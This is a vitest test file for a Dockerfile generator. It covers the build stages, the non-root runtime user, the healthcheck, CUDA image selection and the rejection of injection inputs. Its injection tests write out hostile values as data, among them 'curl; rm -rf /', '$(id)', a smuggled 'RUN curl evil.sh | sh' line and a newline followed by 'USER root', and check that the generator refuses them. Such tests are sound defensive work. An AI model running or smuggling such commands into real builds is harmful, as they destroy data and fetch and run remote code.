import { describe, expect, test } from "vitest";
import { CUDA_VERSIONS, CudaVersionError, DockerfileInputError, generateDockerfile, normalizeCudaVersion } from "../../generators/docker/index.js";
import { sampleManifest } from "../manifest/sample-manifest.js";
import { copyInstructions, healthcheckOf, parseDockerfile, runInstructions, type DockerfileParts } from "./dockerfile-parts.js";
import { cpuManifest, gpuManifest } from "./manifests.js";

function dockerfileOf(manifest = cpuManifest()): DockerfileParts {
  return parseDockerfile(generateDockerfile(manifest).get("Dockerfile")!);
}

function expectCommonShape(parts: DockerfileParts): void {
  expect(parts.stages.map((stage) => stage.name)).toEqual(["node", "deps", "runtime"]);
  const [, deps, runtime] = parts.stages;
  expect(deps!.image).toBe("node");
  // The lockfile install with a shared, locked BuildKit cache for root's npm cache (the stage runs as root).
  const install = runInstructions(deps!).find((run) => /\bnpm ci\b/.test(run.getArgumentsContent() ?? ""))!;
  expect(install.getArgumentsContent()).toMatch(/npm ci --omit=dev\b/);
  const mount = install.getFlags().find((flag) => flag.getName() === "mount")!;
  expect(Object.fromEntries(mount.getOptions().map((option) => [option.getName(), option.getValue()]))).toEqual({ type: "cache", target: "/root/.npm", sharing: "locked" });
  expect(parts.keywords(deps!)).not.toContain("USER");
  // The runtime stage: a numeric non-root user set before the command; port 3000; health on /readyz.
  const users = runtime!.instructions.filter((instruction) => instruction.getKeyword() === "USER").map((user) => user.getArgumentsContent());
  expect(users).toEqual(["1000:1000"]);
  expect(parts.keywords(runtime!).lastIndexOf("USER")).toBeLessThan(parts.keywords(runtime!).indexOf("CMD"));
  expect(runtime!.instructions.find((instruction) => instruction.getKeyword() === "EXPOSE")?.getArgumentsContent()).toBe("3000");
  const healthcheck = healthcheckOf(runtime!)!;
  expect(healthcheck.getSubcommand()?.getValue()).toBe("CMD");
  expect(healthcheck.getArgumentsContent()).toMatch(/http:\/\/127\.0\.0\.1:.*\|\| 3000\) \+ \\"\/readyz/);
  expect(healthcheck.getArgumentsContent()).not.toMatch(/\bcurl\b|\bwget\b/);
  expect(parts.command).toEqual(["node", "--enable-source-maps", "main.mjs"]);
  expect(parts.env).toMatchObject({ NODE_ENV: "production", BENTOC_HOST: "0.0.0.0", BENTOC_PORT: "3000" });
}

describe("the Dockerfile of a CPU service", () => {
  test("has the node, deps and runtime stages on node:<ver>-bookworm-slim", () => {
    const parts = dockerfileOf();
    expectCommonShape(parts);
    expect(parts.stages[0]!.image).toBe("node:22-bookworm-slim");
    expect(parts.final.image).toBe("node");
    expect(copyInstructions(parts.final).filter((copy) => copy.startsWith("--from=node"))).toEqual([]);
  });

  test("uses the Node version the service selects", () => {
    const manifest = cpuManifest();
    manifest.docker.nodeVersion = "20.19";
    expect(dockerfileOf(manifest).stages[0]!.image).toBe("node:20.19-bookworm-slim");
  });

  test("sets the service's env after bentoc's own, quoted literally", () => {
    const manifest = cpuManifest();
    manifest.services[0]!.config.envs = [{ name: "GREETING", value: `it's "$HOME" \\ \`id\` ; rm -rf /` }, { name: "BENTOC_PORT", value: "3000" }, { name: "UNSET" }];
    const parts = dockerfileOf(manifest);
    expect(parts.env.GREETING).toBe(`it's "$HOME" \\ \`id\` ; rm -rf /`);
    expect(parts.env).not.toHaveProperty("UNSET");
    // Nothing from the env reaches a RUN line.
    for (const stage of parts.stages) for (const run of runInstructions(stage)) expect(run.getArgumentsContent()).not.toContain("GREETING");
  });

  test("is the same text for the same manifest", () => {
    expect(generateDockerfile(cpuManifest())).toEqual(generateDockerfile(cpuManifest()));
  });

  test("comes with a .dockerignore that sends only what the Dockerfile copies", () => {
    const ignore = generateDockerfile(cpuManifest()).get(".dockerignore")!;
    expect(ignore.split("\n").filter((line) => line && !line.startsWith("#"))).toEqual(["*", "!bento.yaml", "!package.json", "!package-lock.json", "!src", "!models"]);
  });
});

describe("the Dockerfile of a GPU service", () => {
  test("runs on a CUDA runtime image with Node copied in from the node stage", () => {
    const parts = dockerfileOf(gpuManifest("12.4"));
    expectCommonShape(parts);
    expect(parts.final.image).toBe("nvidia/cuda:12.4.1-runtime-ubuntu22.04");
    expect(copyInstructions(parts.final)).toContain("--from=node /usr/local/bin/node /usr/local/bin/node");
    expect(runInstructions(parts.final).some((run) => run.getArgumentsContent()!.includes("apt-get install -y --no-install-recommends libgomp1"))).toBe(true);
  });

  test("defaults to the newest allowed CUDA 12", () => {
    expect(dockerfileOf(gpuManifest()).final.image).toBe(`nvidia/cuda:${normalizeCudaVersion("12")}-runtime-ubuntu22.04`);
  });

  test("a CPU service that names a CUDA version gets the CUDA image too", () => {
    const manifest = cpuManifest();
    manifest.docker.cuda = "11";
    expect(dockerfileOf(manifest).final.image).toBe("nvidia/cuda:11.8.0-runtime-ubuntu22.04");
  });
});

describe("CUDA version normalisation", () => {
  test.each([
    ["12", "12.9.1"],
    ["12.4", "12.4.1"],
    ["12.4.1", "12.4.1"],
    ["11", "11.8.0"],
    ["11.8", "11.8.0"],
  ])("%s → %s", (requested, full) => {
    expect(normalizeCudaVersion(requested)).toBe(full);
  });

  test("the newest of a line is the last allowed one", () => {
    const twelves = CUDA_VERSIONS.filter((version) => version.startsWith("12."));
    expect(normalizeCudaVersion("12")).toBe(twelves.at(-1));
  });

  test.each(["10", "12.7", "12.4.0", "13", "12.x", "latest", ""])("'%s' is an error listing the allowed versions", (requested) => {
    expect(() => normalizeCudaVersion(requested)).toThrow(CudaVersionError);
    expect(() => normalizeCudaVersion(requested)).toThrow(`use one of ${CUDA_VERSIONS.join(", ")}`);
  });

  test("an unknown version in the manifest fails the generator", () => {
    expect(() => generateDockerfile(gpuManifest("12.7"))).toThrow(/CUDA version '12.7' is not supported/);
  });
});

describe("Dockerfile inputs that could inject instructions or shell", () => {
  const cases: [string, (manifest: ReturnType<typeof sampleManifest>) => void, RegExp][] = [
    ["a system package with shell syntax", (m) => (m.docker.systemPackages = ["curl; rm -rf /"]), /systemPackages entry 'curl; rm -rf \/' is not a Debian package name/],
    ["a system package with a command substitution", (m) => (m.docker.systemPackages = ["$(id)"]), /not a Debian package name/],
    ["a system package with a newline", (m) => (m.docker.systemPackages = ["git\nRUN id"]), /'git\\nRUN id' is not a Debian package name/],
    ["a base image with a newline", (m) => (m.docker.baseImage = "debian:12\nRUN curl evil.sh | sh"), /baseImage 'debian:12\\nRUN curl evil.sh \| sh' is not an image reference/],
    ["a base image with shell syntax", (m) => (m.docker.baseImage = "debian:12 && id"), /is not an image reference/],
    ["an env value with a newline", (m) => (m.services[0]!.config.envs = [{ name: "X", value: "a\nRUN id" }]), /environment variable X contains a line break/],
    ["an env value with a carriage return", (m) => (m.services[0]!.config.envs = [{ name: "X", value: "a\rb" }]), /environment variable X contains a line break/],
    ["an env name with '='", (m) => (m.services[0]!.config.envs = [{ name: "A=B C", value: "1" }]), /environment variable name 'A=B C'/],
    ["a Node version with a tag suffix", (m) => (m.docker.nodeVersion = "20-alpine\nUSER root"), /docker.nodeVersion '20-alpine\\nUSER root' is not a Node.js version/],
    ["a Node version too old for the runtime", (m) => (m.docker.nodeVersion = "18"), /use 20 or newer/],
    ["a bento name with a newline", (m) => (m.name = "x\nUSER root"), /is not a valid store tag/],
  ];
  test.each(cases)("%s is refused", (_what, spoil, message) => {
    const manifest = cpuManifest();
    spoil(manifest);
    expect(() => generateDockerfile(manifest)).toThrow(DockerfileInputError);
    expect(() => generateDockerfile(manifest)).toThrow(message);
  });

  test("a valid base image is used as the runtime base, with Node copied in", () => {
    const manifest = cpuManifest();
    manifest.docker.baseImage = "registry.example.com:5000/team/debian:12-slim";
    const parts = dockerfileOf(manifest);
    expect(parts.final.image).toBe("registry.example.com:5000/team/debian:12-slim");
    expect(copyInstructions(parts.final)).toContain("--from=node /usr/local/bin/node /usr/local/bin/node");
  });
});
